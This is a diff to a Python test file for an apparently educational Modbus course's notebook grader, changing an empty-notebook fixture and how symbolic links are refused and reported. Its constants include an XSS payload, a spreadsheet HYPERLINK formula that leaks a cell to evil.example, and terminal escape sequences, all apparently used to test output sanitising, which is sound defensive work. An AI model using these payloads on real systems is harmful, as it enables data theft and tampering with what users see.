@@ -38,6 +38,8 @@ from modbus_edu.course.verdicts import (
 from modbus_edu.exercises import EXERCISES, evaluate
 
 ROOT = Path(__file__).resolve().parents[1]
+EMPTY = '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}'
+"""A notebook with no cell: what the grader reads as a notebook."""
 KEYS_03 = sorted(key for key in EXERCISES if key.startswith("03."))
 XSS = "<img src=x onerror=alert(document.domain)>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -46,7 +48,7 @@ ESCAPES = "\x1b[2J\x1b]0;pwned\x07"
 
 def touch(path: Path, mtime: float | None = None) -> Path:
     path.parent.mkdir(parents=True, exist_ok=True)
-    path.write_text("{}", encoding="utf-8")
+    path.write_text(EMPTY, encoding="utf-8")
     if mtime is not None:
         os.utime(path, (mtime, mtime))
     return path
@@ -151,10 +153,13 @@ def test_hidden_folders_are_skipped_and_links_refused(tmp_path):
     os.mkfifo(tmp_path / "ada" / "05_tcp_and_mbap.ipynb")
     found = collect([tmp_path])
     assert [(s.learner, s.path.name) for s in found.submissions] == [("ada", "03_rtu_and_crc.ipynb")]
-    assert found.learners == ["ada", "bob", "eve"]  # a learner whose files were refused still has a row
+    assert found.learners == ["ada", "bob"]  # a learner whose files were refused still has a row
     assert found.refused["bob"] == ["03_rtu_and_crc.ipynb: refused, a symbolic link (a submission is the "
                                     "notebook itself, never a link to one: not followed)"]
-    assert "symbolic link" in found.refused["eve"][0]
+    # a link beside the learners' folders is no learner's folder: refused, said, and no row of its own
+    assert any(note.endswith("eve: refused, a symbolic link (a submission is the notebook itself, never a "
+                             "link to one: not followed); it names no learner, so it is in no row")
+               for note in found.notes)
     assert "not a regular file" in found.refused["ada"][0]
     assert grading.find_submissions([tmp_path]) == {"ada": [tmp_path / "ada" / "03_rtu_and_crc.ipynb"]}
 
